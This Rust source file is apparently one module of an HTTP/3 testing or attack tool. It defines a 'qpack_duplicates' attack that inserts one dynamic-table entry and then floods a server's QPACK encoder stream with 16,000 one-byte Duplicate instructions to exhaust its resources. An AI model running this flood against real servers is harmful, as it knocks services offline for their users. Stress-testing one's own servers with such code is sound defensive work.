//! Duplicate instructions of the QPACK encoder, a byte each.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack =
    Attack::new("qpack_duplicates", "QPACK Duplicate instructions", run);

fn run(a: &mut Attacker) {
    let first = [wire::capacity(4096), wire::insert("a", "b")].concat();
    let instructions = wire::duplicate(0).repeat(16_000);
    flood::encoder(a, &first, &instructions, 16_000);
}
